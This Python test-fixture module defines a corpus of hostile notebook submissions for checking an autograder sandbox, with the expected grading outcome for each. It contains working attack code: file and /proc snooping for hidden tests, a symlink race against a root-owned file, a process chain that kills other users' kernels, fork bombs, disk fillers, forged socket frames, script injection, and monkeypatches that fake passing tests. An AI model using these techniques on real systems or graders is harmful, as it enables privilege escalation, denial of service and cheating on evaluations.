"""The sandbox corpus: one small submission per attack of issue 9, and what must come of it.

Each entry of ``ATTACKS`` is a student of one class folder graded by one ``course autograde
--jobs 2`` run (tests/test_sandbox.py). A submission is the released notebook of the tiny course
below with some answer cells replaced (``answers``), or a raw file (``raw``). ``expect`` is the
outcome:

* ``status``: ``graded`` or ``ungradable``;
* ``scores``: {test cell: points} in the gradebook (test_square 2, test_cube 3, test_data 1);
* ``reason``: a text that must be in grades.csv's ``reason`` column;
* ``output``: texts that must be in the autograded notebook's outputs (``!text``: must not be).

``@COURSE_DIR@``, ``@REPO@`` and ``@CLASS@`` (the hand-ins) in an answer are replaced by the paths
of the run.
"""

from __future__ import annotations

TOPIC = "00_sandbox"
NB = f"{TOPIC}.ipynb"
DATA = "42"  # data.txt, the assignment's data file: the kernel must find it in its folder

SETUP = "import numpy as np\nfrom course.checks import check_close\nDATA = open('data.txt').read().strip()"
SQUARE = "def square(x):\n    return x * x"
CUBE = "def cube(x):\n    return x ** 3"
TESTS = {
    "test_square": (2, "check_close('square(3)', square(3.0), 9.0)", "check_close('square(-2)', square(-2.0), 4.0)"),
    "test_cube": (3, "check_close('cube(2)', cube(2.0), 8.0)", "check_close('cube of -1', cube(-1.0), -1.0)"),
    "test_data": (1, "assert DATA == '42', 'data.txt not found'", "assert len(DATA) == 2"),
}
HIDDEN = ["square(-2)", "cube(-1)", "len(DATA) == 2"]  # hidden test code: never readable by a kernel
FULL = {"test_square": 2, "test_cube": 3, "test_data": 1}

# A student's code looks for everything it must not see: hidden tests and solutions (in any
# notebook or database it can reach), the gradebook, other students' files; and tries to write.
SNOOP = r"""
import os, glob
LEAKS = []
def _look(path):
    try:
        if os.path.isdir(path):
            os.listdir(path)
            LEAKS.append("listed " + path)
            return
        with open(path, "rb") as fh:
            data = fh.read(2_000_000)
        if any(h.encode() in data for h in HIDDEN) or path.endswith((".db", ".ipynb")):
            LEAKS.append("read " + path)
    except OSError:
        pass
HIDDEN = ["square(-" + "2)", "cube(-" + "1)", "len(DATA) " + "== 2", "BEGIN " + "HIDDEN", "BEGIN " + "SOLUTION"]
for p in ["@COURSE_DIR@", "@COURSE_DIR@/gradebook.db", "@COURSE_DIR@/submitted", "@COURSE_DIR@/autograde",
          "@REPO@/source", "@REPO@/source/00_sandbox/00_sandbox.ipynb", "@REPO@/.git", "@CLASS@",
          "@CLASS@/correct/00_sandbox.ipynb", "/work/main/source", "/work/main/.git",
          "/work/main/source/01_linear_regression/01_linear_regression.ipynb"]:
    _look(p)
# every file this kernel can reach in the run's folders, the grader's temporary folders and its own home
for top in glob.glob("/tmp/sandbox-corpus-*") + glob.glob("/tmp/course-autograde-*") + ["/dev/shm", ".."]:
    for root, dirs, files in os.walk(top):
        for f in files:
            _look(os.path.join(root, f))
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        _look(f"/proc/{pid}/cwd")
        _look(f"/proc/{pid}/environ")
WROTE = []
for p in ["@COURSE_DIR@/gradebook.db", "@COURSE_DIR@/reports/00_sandbox/grades.csv", "@REPO@/source/00_sandbox/x"]:
    try:
        with open(p, "ab") as fh:
            fh.write(b"0")
        WROTE.append(p)
    except OSError:
        pass
print("LEAKS:", LEAKS, "WROTE:", WROTE)
def cube(x):
    return x ** 3
"""

ENV_PROBE = r"""
import os, sys
BAD = [k for k in os.environ if k.startswith(("NBGRADER", "COURSE", "JPY_", "CI", "PYTEST", "VIRTUAL_ENV"))]
PATHS = [v for v in os.environ.values() if "pytest" in v or "course-autograde" in v or "autograde" in v]
print("ENV:", BAD, PATHS, "ARGV:", sys.argv[1:2], os.path.basename(sys.argv[-1]).startswith("kernel-"))
def cube(x):
    return x ** 3
"""

RANDOM = "import random\nimport numpy as np\nprint('RANDOM', random.random(), np.random.rand())\n" + CUBE
WRONG_CUBE = "def cube(x):\n    return x * x"  # cube(2) = 4, not 8: every attack below pairs a trick with this
# Phase 2 (the judge): a wrong cube plus a trick must still score 0 on test_cube; test_square (before it)
# and test_data (which calls no answer) keep their points.
WRONG = {"test_square": 2, "test_cube": 0, "test_data": 1}


def _cells(nb, gid):
    return [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == gid]


def _test_to_pass(nb):
    _cells(nb, "test_cube")[0]["source"] = "pass"


def _delete_test(nb):
    nb["cells"].remove(_cells(nb, "test_cube")[0])


def _duplicate_test(nb):
    import copy

    cell = copy.deepcopy(_cells(nb, "test_cube")[0])
    cell["source"] = "pass  # my own copy of the test"
    nb["cells"].append(cell)


def _test_to_markdown(nb):
    cell = _cells(nb, "test_cube")[0]
    cell["cell_type"] = "markdown"
    cell["metadata"]["nbgrader"]["cell_type"] = "markdown"
    for key in ("outputs", "execution_count"):
        cell.pop(key, None)


def _more_points(nb):
    _cells(nb, "test_cube")[0]["metadata"]["nbgrader"]["points"] = 100


# Tricks that work when the tests run in the student's kernel (nbgrader's own autograde): each
# would turn the wrong cube into full marks there.
TRANSFORMER = (
    WRONG_CUBE
    + """
def _blank(lines):
    text = ''.join(lines)
    return ['pass\\n'] if ('check_close' in text or 'probe' in text) else lines
get_ipython().input_transformers_post.append(_blank)
"""
)
AST_TRANSFORMER = (
    WRONG_CUBE
    + """
import ast
class _NoChecks(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoChecks())
"""
)
HOOKS = (
    WRONG_CUBE
    + """
def _pre(info):
    info.raw_cell = 'pass'
def _post(result):
    result.error_in_exec = None
get_ipython().events.register('pre_run_cell', _pre)
get_ipython().events.register('post_run_cell', _post)
"""
)
MONKEYPATCH = (
    WRONG_CUBE
    + """
import builtins, numpy, course.checks, course.gradients, torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: numpy.True_
numpy.testing.assert_allclose = lambda *a, **k: None
course.checks.check_close = lambda *a, **k: None
course.checks.as_float_array = lambda name, v: numpy.zeros(1)
torch.allclose = lambda *a, **k: True
builtins.AssertionError = type('AssertionError', (Exception,), {})
class _Quiet(Exception):
    pass
builtins.FloatingPointError = _Quiet
"""
)
HIDE_ERRORS = (
    WRONG_CUBE
    + """
import sys, os
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
sys.excepthook = lambda *a: None
sys.stderr = open(os.devnull, 'w')
"""
)
ALWAYS_EQUAL = """
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 8.0
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.array(8.0)
def cube(x):
    return AlwaysEqual()
"""
ARRAY_SUBCLASS = """
import numpy as np
class Agreeable(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __sub__(self, other): return np.zeros(np.shape(other))
    def __rsub__(self, other): return np.zeros(np.shape(other))
    def __abs__(self): return np.zeros(self.shape)
def cube(x):
    return np.asarray(x * x, dtype=float).view(Agreeable)
"""
FLOAT_SUBCLASS = """
class Agreeable(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __float__(self): return 8.0
def cube(x):
    return Agreeable(x * x)
"""
# Fills every folder it can write to with files under the 128 MB per-file limit.
FILL_MANY = (
    """
import errno, os
def fill(folder):
    try:
        for i in range(100):
            with open(os.path.join(folder, f'fill-{i}.bin'), 'wb') as fh:
                for _ in range(100):
                    fh.write(bytes(2**20))
    except OSError as exc:
        return errno.errorcode.get(exc.errno, exc.errno)
    return 'no limit'
print('FILLED', fill('.'), fill('/tmp'), fill('/dev/shm'), fill('/var/tmp'))
"""
    + CUBE
)
TMP_VIEW = (  # what the kernel sees in /tmp, except the folders above the venv and the course package
    # when the course was cloned there (bound back, at any depth)
    "import os, sys, course\n"
    "kept = [sys.prefix, os.path.dirname(os.path.dirname(course.__file__))]\n"
    "seen = [e for e in os.listdir('/tmp') if not any((k + '/').startswith(f'/tmp/{e}/') for k in kept)]\n"
    "print('TMP', seen, os.listdir('/dev/shm'), os.listdir('/var/tmp'))\n" + CUBE
)
# Tries the machine's own services (a PostgreSQL gradebook on loopback, ssh) and the internet.
NETWORK = (
    """
import errno, socket
def attempt(host, port):
    try:
        socket.create_connection((host, port), timeout=2).close()
        return 'connected'
    except OSError as exc:
        return 'refused' if exc.errno == errno.ECONNREFUSED else 'unreachable'
print('NETWORK', attempt('127.0.0.1', 5432), attempt('127.0.0.1', 22), attempt('1.1.1.1', 53))
"""
    + CUBE
)
NAN = "def cube(x):\n    return float('nan')"
# Looks for the hidden tests in everything the kernel has while a test runs: the call stack, the
# input history, every module; prints what it found.
READ_TESTS = """
import inspect, sys
def cube(x):
    needles = ['cube(-' + '1)', 'square(-' + '2)', 'BEGIN ' + 'HIDDEN']
    seen = []
    for frame in inspect.stack()[1:]:  # every caller (not this function: its own locals hold the needles)
        text = ''.join(frame.code_context or []) + repr(frame.frame.f_locals)
        seen += [n for n in needles if n in text]
    for cell in get_ipython().user_ns.get('In', []):
        seen += [n for n in needles if n in cell]
    for mod in list(sys.modules.values()):
        for v in list(getattr(mod, '__dict__', {}).values()):
            if isinstance(v, str):
                seen += [n for n in needles if n in v]
    print('HIDDEN SEEN:', sorted(set(seen)), 'STACK:', [f.function for f in inspect.stack()])
    return x * x
"""
EXIT_IN_TEST = "def cube(x):\n    import sys\n    sys.exit(0)"
INTERRUPT_IN_TEST = "def cube(x):\n    raise KeyboardInterrupt"
# Writes to the judge's socket directly: a forged "it passed" frame and then garbage.
FORGE = """
import gc, socket, json, struct
def cube(x):
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket):
            for msg in ({'op': 'reply', 'id': 1, 'ok': True, 'value': 8.0}, {'op': 'end'}):
                data = json.dumps(msg).encode()
                obj.sendall(struct.pack('>I', len(data)) + data)
            obj.sendall(struct.pack('>I', 2**31) + b'x' * 1000)
    return x * x
"""

ATTACKS: dict[str, dict] = {
    "correct": {"answers": {}, "expect": {"status": "graded", "scores": FULL}},
    "sys_exit": {  # sys.exit() after defining the answer: that cell fails, the rest is graded
        "answers": {"cube": CUBE + "\nimport sys\nsys.exit(3)"},
        "expect": {"status": "graded", "scores": FULL, "output": ["SystemExit"]},
    },
    "keyboard_interrupt": {
        "answers": {"square": SQUARE + "\nraise KeyboardInterrupt"},
        "expect": {"status": "graded", "scores": FULL, "output": ["KeyboardInterrupt"]},
    },
    "os_exit": {  # the kernel dies in the cube cell: square keeps its points, the rest scores 0
        "answers": {"cube": "import os\nos._exit(1)"},
        "expect": {
            "status": "graded",
            "scores": {"test_square": 2, "test_cube": 0, "test_data": 0},
            "reason": "kernel died at cell 5 (cube)",
        },
    },
    "segfault": {
        "answers": {"cube": "import ctypes\nctypes.string_at(0)"},
        "expect": {
            "status": "graded",
            "scores": {"test_square": 2, "test_cube": 0, "test_data": 0},
            "reason": "kernel died at cell 5 (cube)",
        },
    },
    "allocate_50gb": {
        "answers": {
            "cube": "try:\n    big = np.ones(50 * 2**30 // 8)\nexcept MemoryError:\n    print('ALLOC REFUSED')\n" + CUBE
        },
        "expect": {"status": "graded", "scores": FULL, "output": ["ALLOC REFUSED"]},
    },
    "fork_bomb": {  # children sleep on after the cell: the sandbox ends them with the kernel
        "answers": {
            "cube": "import os, time\nn = 0\nwhile n < 100000:\n    try:\n        pid = os.fork()\n"
            "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(600)\n        os._exit(0)\n"
            "    n += 1\nprint('FORK REFUSED after', n)\n" + CUBE
        },
        "expect": {"status": "graded", "scores": FULL, "output": ["FORK REFUSED after"]},
    },
    "fill_disk": {
        "answers": {
            "cube": "try:\n    with open('big.bin', 'wb') as fh:\n        for _ in range(4096):\n"
            "            fh.write(bytes(2**20))\nexcept OSError as exc:\n    print('WRITE REFUSED', exc.errno)\n" + CUBE
        },
        "expect": {"status": "graded", "scores": FULL, "output": ["WRITE REFUSED 27"]},
    },
    "long_sleep": {  # interrupted at the per-cell time limit; the other cells are graded
        "answers": {"cube": CUBE + "\nimport time\ntime.sleep(10_000)"},
        "expect": {"status": "graded", "scores": FULL, "reason": "cube hit the per-cell time limit"},
    },
    "loop_ignoring_sigint": {
        "answers": {"cube": CUBE + "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile 1:\n    pass"},
        "expect": {  # stopped at the cell time limit: square keeps its points, the rest scores 0
            "status": "graded",
            "scores": {"test_square": 2, "test_cube": 0, "test_data": 0},
            "reason": "kernel stopped at cell 5 (cube)",
        },
    },
    "print_50mb_line": {
        "answers": {"cube": "print('x' * 50_000_000)\n" + CUBE},
        "expect": {"status": "graded", "scores": FULL, "output": ["output truncated by the grader"]},
    },
    "print_100k_lines": {
        "answers": {"cube": "for i in range(100_000):\n    print(i, 'y' * 20)\n" + CUBE},
        "expect": {"status": "graded", "scores": FULL, "output": ["Output truncated", "!99999 yyyy"]},
    },
    "unseeded_random_1": {"answers": {"cube": RANDOM}, "expect": {"status": "graded", "scores": FULL}},
    "unseeded_random_2": {"answers": {"cube": RANDOM}, "expect": {"status": "graded", "scores": FULL}},
    "grading_detector": {
        "answers": {"cube": ENV_PROBE},
        "expect": {"status": "graded", "scores": FULL, "output": ["ENV: [] [] ARGV: ['-f'] True"]},
    },
    "snoop_and_write": {
        "answers": {"cube": SNOOP},
        "expect": {"status": "graded", "scores": FULL, "output": ["LEAKS: [] WROTE: []"]},
    },
    # -- phase 2: the tests run in the judge, not in the student's kernel -----------------------
    "test_edited_to_pass": {
        "answers": {"cube": WRONG_CUBE},
        "edit": _test_to_pass,
        "expect": {"status": "graded", "scores": WRONG, "max": 6},
    },
    "test_deleted": {
        "answers": {"cube": WRONG_CUBE},
        "edit": _delete_test,
        "expect": {"status": "graded", "scores": WRONG, "max": 6},
    },
    "test_deleted_correct": {"edit": _delete_test, "expect": {"status": "graded", "scores": FULL, "max": 6}},
    "test_duplicated": {
        "answers": {"cube": WRONG_CUBE},
        "edit": _duplicate_test,
        "expect": {"status": "graded", "scores": WRONG, "max": 6, "reason": "cell test_cube appears 2 times"},
    },
    "test_made_markdown": {
        "answers": {"cube": WRONG_CUBE},
        "edit": _test_to_markdown,
        "expect": {"status": "graded", "scores": WRONG, "max": 6},
    },
    "test_worth_100": {"edit": _more_points, "expect": {"status": "graded", "scores": FULL, "max": 6}},
    "input_transformer": {"answers": {"cube": TRANSFORMER}, "expect": {"status": "graded", "scores": WRONG}},
    "ast_transformer": {"answers": {"cube": AST_TRANSFORMER}, "expect": {"status": "graded", "scores": WRONG}},
    "run_cell_hooks": {"answers": {"cube": HOOKS}, "expect": {"status": "graded", "scores": WRONG}},
    "monkeypatch": {
        "answers": {"cube": MONKEYPATCH},
        "expect": {"status": "graded", "scores": WRONG, "output": ["cube(2)"]},
    },
    "hide_errors": {
        "answers": {"cube": HIDE_ERRORS},
        "expect": {"status": "graded", "scores": WRONG, "output": ["cube(2)"]},
    },
    "always_equal": {
        "answers": {"cube": ALWAYS_EQUAL},
        "expect": {"status": "graded", "scores": WRONG, "output": ["AlwaysEqual"]},
    },
    "ndarray_subclass": {
        "answers": {"cube": ARRAY_SUBCLASS},
        "expect": {"status": "graded", "scores": WRONG, "output": ["cube(2)"]},
    },
    "float_subclass": {
        "answers": {"cube": FLOAT_SUBCLASS},
        "expect": {"status": "graded", "scores": WRONG, "output": ["cube(2)"]},
    },
    "returns_nan": {"answers": {"cube": NAN}, "expect": {"status": "graded", "scores": WRONG, "output": ["NaN"]}},
    "reads_tests_while_tested": {
        "answers": {"cube": READ_TESTS},
        "expect": {"status": "graded", "scores": WRONG, "output": ["HIDDEN SEEN: []", "!cube(-1)", "!square(-2)"]},
    },
    "exit_during_test": {
        "answers": {"cube": EXIT_IN_TEST},
        "expect": {"status": "graded", "scores": WRONG, "output": ["SystemExit"]},
    },
    "interrupt_during_test": {"answers": {"cube": INTERRUPT_IN_TEST}, "expect": {"status": "graded", "scores": WRONG}},
    "forges_frames": {"answers": {"cube": FORGE}, "expect": {"status": "graded", "scores": WRONG}},
    "fill_disk_many_files": {
        "answers": {"cube": FILL_MANY},
        "expect": {"status": "graded", "scores": FULL, "output": ["FILLED ENOSPC ENOSPC ENOSPC ENOSPC"]},
    },
    "private_tmp": {
        "answers": {"cube": TMP_VIEW},
        "expect": {"status": "graded", "scores": FULL, "output": ["TMP [] [] []"]},
    },
    "network": {
        "answers": {"cube": NETWORK},
        "expect": {"status": "graded", "scores": FULL, "output": ["NETWORK unreachable unreachable unreachable"]},
    },
    "malformed_json": {"raw": b'{"cells": [', "expect": {"status": "ungradable", "reason": "malformed notebook"}},
    "truncated": {"truncate": 0.5, "expect": {"status": "ungradable", "reason": "malformed notebook"}},
    "nbformat_3": {
        "raw": b'{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}',
        "expect": {"status": "ungradable", "reason": "malformed notebook: nbformat 3"},
    },
    "huge_200mb": {"pad": 200 * 1024**2, "expect": {"status": "ungradable", "reason": "notebook too large"}},
    "wrong_name": {"name": "homework.ipynb", "expect": {"status": "ungradable", "reason": "wrong file name"}},
    "two_notebooks": {"extra": f"{TOPIC}-Copy1.ipynb", "expect": {"status": "ungradable", "reason": "2 notebooks"}},
}

# -- issue 18: a hostile class graded without harm --------------------------------------------------
# Critical: the judge bound its socket and chmod'ed it, as root, in a folder the student owned; a symlink
# swapped in between made a root-only file world-writable. The kernel now finds the socket's folder on
# its call stack and tries to swap the socket for a link to @TARGET@ (root's, mode 600, outside its box),
# once deterministically and then from a thread racing every later test cell.
SOCKET_SWAP = """
import inspect, os, threading, time, glob
TARGET = '@TARGET@'
def _swap(path):
    try:
        os.rename(path, path + '.moved')
        os.symlink(TARGET, path)
        return 'done'
    except OSError as exc:
        return 'refused'
def _race():
    end = time.time() + 20
    while time.time() < end:
        for d in set(RACE_DIRS):
            try:
                for n in os.listdir(d):
                    if n.endswith('.sock'):
                        _swap(os.path.join(d, n))
            except OSError:
                pass
RACE_DIRS = [os.path.expanduser('~/.local/share/jupyter/runtime')]
threading.Thread(target=_race, daemon=True).start()
def cube(x):
    for f in inspect.stack():
        path = f.frame.f_locals.get('path')
        if isinstance(path, str) and path.endswith('.sock'):
            RACE_DIRS.append(os.path.dirname(path))
            print('SWAP', _swap(path))
    return x ** 3
"""
# High: a chain of processes that changes pid every few ms, leaves the session and outlives the
# submission, then kills every later kernel it can see (a later student of the same sandbox user).
# Graded first (its name sorts first): every later entry of the corpus is its victim.
PID_CHAIN = (
    """
import os, time, signal
def _chain():
    if os.fork():
        return
    os.setsid()
    start = time.time()
    mine = set()
    for pid in os.listdir('/proc'):  # the kernels there already (its own): spared
        try:
            if pid.isdigit() and b'ipykernel' in open(f'/proc/{pid}/cmdline', 'rb').read():
                mine.add(pid)
        except OSError:
            pass
    while time.time() - start < 90:
        if os.fork():
            os._exit(0)  # a new pid every few ms
        for pid in os.listdir('/proc'):
            try:
                if pid.isdigit() and int(pid) != os.getpid():
                    cmd = open(f'/proc/{pid}/cmdline', 'rb').read()
                    if b'ipykernel' in cmd and pid not in mine:  # a later student's kernel
                        os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.005)
    os._exit(0)
_chain()
"""
    + CUBE
)
# High (limits on the grader's side): a 64 MB answer; 100 000 display() calls; 50 large images.
BIG_FRAME = "import numpy as np\ndef cube(x):\n    return np.zeros(8 * 2**20) + x ** 3"
DISPLAY_FLOOD = CUBE + "\nfrom IPython.display import display\nfor i in range(10_000):\n    display(i)\n"
BIG_IMAGES = CUBE + (
    "\nimport os\nfrom IPython.display import Image, display\n"
    "for i in range(50):\n    display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(2**20), format='png'))\n"
)
# Medium: changes the test's own array in place, so that an expectation recomputed from it agrees.
MUTATES_ARGS = (
    "import numpy as np\ndef square(x):\n    if isinstance(x, np.ndarray):\n        x[...] = 0\n    return x * x"
)
# Medium: right on the visible test, wrong on the hidden one; prints its input many times (a lookup table)
LEAKY = "def cube(x):\n    print('INPUT', repr(x) * 200)\n    return 8.0 if x == 2.0 else 0.0"
# Medium: an object whose class is *named* like a tensor, whose detach().cpu().numpy() gives the answer
FAKE_TENSOR = """
import numpy as np
class _N:
    def __init__(self, v): self.v = v
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): return np.asarray(self.v)
_N.__name__ = _N.__qualname__ = 'torch.Tensor'
def cube(x):
    return _N(x ** 3)  # the right values, computed where no guard looks (autograd, say)
"""
# Medium: SysV shared memory left by one student, read by another (no IPC namespace before).
_SHM = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nKEY = 0x5ca1ab1e\n"
SHM_WRITER = (
    _SHM + "sid = libc.shmget(KEY, 4096, 0o1000 | 0o666)\n"
    "libc.shmat.restype = ctypes.c_void_p\naddr = libc.shmat(sid, None, 0) if sid >= 0 else None\n"
    "if addr not in (None, ctypes.c_void_p(-1).value):\n    ctypes.memmove(addr, b'SECRET-OF-ONE-STUDENT', 21)\n"
    "print('SHM WRITTEN', sid >= 0)\n" + CUBE
)
SHM_READER = (
    "import time\ntime.sleep(3)\n" + _SHM + "sid = libc.shmget(KEY, 0, 0)\n"
    "print('SHM', 'found' if sid >= 0 else 'none')\n"
    "if sid >= 0:\n    libc.shmctl(sid, 0, None)  # IPC_RMID: leave nothing on the machine\n" + CUBE
)
# Medium: what of the machine a kernel sees: other processes (the grader's command lines), the course's
# solutions and any other clone's instructor notebook anywhere on the filesystem.
MACHINE_VIEW = (
    CUBE
    + """
import os, sys, time, course
skip = (sys.prefix, os.path.realpath(sys.base_prefix), os.path.dirname(course.__file__))
pids = [p for p in os.listdir('/proc') if p.isdigit()]
grader = []
for p in pids:
    if int(p) in (os.getpid(), os.getppid()):  # itself and its jail, forked from `python -m autograder.zygote`
        continue
    try:
        cmd = open(f'/proc/{p}/cmdline', 'rb').read()
        if b'autograde' in cmd or b'pytest' in cmd or b'multiprocessing' in cmd:
            grader.append(p)
    except OSError:
        pass
found = []
t0 = time.time()
for top in ['/']:
    for root, dirs, files in os.walk(top):
        if time.time() - t0 > 3:
            break
        if root.startswith(('/proc', '/sys', '/usr', '/dev') + skip):
            dirs[:] = []
            continue
        for n in dirs + files:
            if n in ('source', '.git', 'gradebook.db') or n.endswith('.ipynb'):
                found.append(os.path.join(root, n))
import socket
maps = open('/proc/self/uid_map').read().split()  # its own user namespace: one user, itself
print('MACHINE', len(pids) < 10, grader, found[:5], socket.gethostname(), maps[1:] == [str(os.getuid()), '1'])
"""
)
SCRIPT_OUTPUT = (
    "from IPython.display import HTML, Javascript, display\n"
    "display(HTML('<script>window.PWNED = 1</script><div class=\"banner\">ALL TESTS PASSED</div>'))\n"
    "display(Javascript('window.PWNED = 2'))\n" + CUBE
)


def _markdown_script(nb):
    nb["cells"].append(
        {"cell_type": "markdown", "metadata": {}, "source": "My answer <script>window.PWNED = 3</script><b>bold</b>"}
    )


COMPLEX = "def cube(x):\n    return complex(x ** 3, 1.0)"
MARKERS = "def cube(x):\n    ### BEGIN HIDDEN TESTS\n    ### END HIDDEN TESTS\n    return x ** 3"
# A correct answer that computes for 3 s of CPU (under the 5 s per-cell limit): graded the same with four
# CPU hogs on the machine (tests/test_sandbox.py::test_busy_machine_grades_the_same).
BUSY = "import time\n_t = time.process_time()\nwhile time.process_time() - _t < 3.0:\n    pass\n" + CUBE

ATTACKS.update(
    {
        "aa_pid_chain": {"answers": {"cube": PID_CHAIN}, "expect": {"status": "graded", "scores": FULL}},
        "socket_swap": {
            "answers": {"cube": SOCKET_SWAP},
            "expect": {"status": "graded", "scores": FULL, "output": ["SWAP refused", "!SWAP done"]},
        },
        "big_frame": {"answers": {"cube": BIG_FRAME}, "expect": {"status": "graded", "scores": WRONG}},
        "display_flood": {
            "answers": {"cube": DISPLAY_FLOOD},
            "expect": {"status": "graded", "scores": FULL, "output": ["dropped by the grader"]},
        },
        "big_images": {
            "answers": {"cube": BIG_IMAGES},
            "expect": {"status": "graded", "scores": FULL, "output": ["dropped by the grader"]},
        },
        "mutates_test_arrays": {
            "answers": {"square": MUTATES_ARGS},
            "expect": {
                "status": "graded",
                "scores": {"test_square": 0, "test_cube": 3, "test_data": 1},
                "output": ["in place"],
            },
        },
        "leaks_expected": {
            "answers": {"cube": LEAKY},
            "expect": {
                "status": "graded",
                "scores": WRONG,
                "output": ["values hidden in a hidden test", "!expected -1", "hidden tests show only the start"],
            },
        },
        "fake_tensor": {
            "answers": {"cube": FAKE_TENSOR},
            "expect": {"status": "graded", "scores": WRONG, "output": ["torch.Tensor (an object of your code)"]},
        },
        "ipc_1_writer": {
            "answers": {"cube": SHM_WRITER},
            "expect": {"status": "graded", "scores": FULL, "output": ["SHM WRITTEN True"]},
        },
        "ipc_2_reader": {
            "answers": {"cube": SHM_READER},
            "expect": {"status": "graded", "scores": FULL, "output": ["SHM none"]},
        },
        "machine_view": {
            "answers": {"cube": MACHINE_VIEW},
            "expect": {"status": "graded", "scores": FULL, "output": ["MACHINE True [] [] sandbox True"]},
        },
        "script_in_outputs": {
            "answers": {"cube": SCRIPT_OUTPUT},
            "edit": _markdown_script,
            "expect": {"status": "graded", "scores": FULL, "output": ["!window.PWNED", "!ALL TESTS PASSED"]},
        },
        "complex_answer": {"answers": {"cube": COMPLEX}, "expect": {"status": "graded", "scores": WRONG}},
        "hidden_markers_in_answer": {"answers": {"cube": MARKERS}, "expect": {"status": "graded", "scores": FULL}},
        "busy_1": {"answers": {"cube": BUSY}, "expect": {"status": "graded", "scores": FULL}},
        # (the Ctrl+C test interrupts it while it sleeps; graded whole when nothing interrupts it)
        "sleeps_8s": {
            "answers": {"cube": CUBE + "\nimport time\ntime.sleep(8)"},
            "expect": {"status": "graded", "scores": FULL},
        },
        "link_to_source": {
            "links": {"notes.ipynb.txt": "@REPO@/source/00_sandbox/00_sandbox.ipynb"},
            "expect": {"status": "ungradable", "reason": "not gradable: link"},
        },
        "link_to_root_file": {
            "links": {"data.txt": "@TARGET@"},
            "expect": {"status": "ungradable", "reason": "not gradable: link"},
        },
        "fifo_in_handin": {"fifo": "notes.txt", "expect": {"status": "ungradable", "reason": "not gradable: link"}},
        "extra_files": {
            "files": {"notes.txt": b"my own notes", "helper.py": b"X = 1\n"},
            "expect": {"status": "graded", "scores": FULL},
        },
    }
)
# the hidden test of test_square also checks arrays: an expectation computed from the test's own array
TESTS["test_square"] = (
    2,
    "check_close('square(3)', square(3.0), 9.0)",
    "check_close('square of a negative number', square(-2.0), 4.0)\nx_h = np.array([1.0, -2.0, 3.0])\n"
    "check_close('square of an array', square(x_h), x_h ** 2)",
)
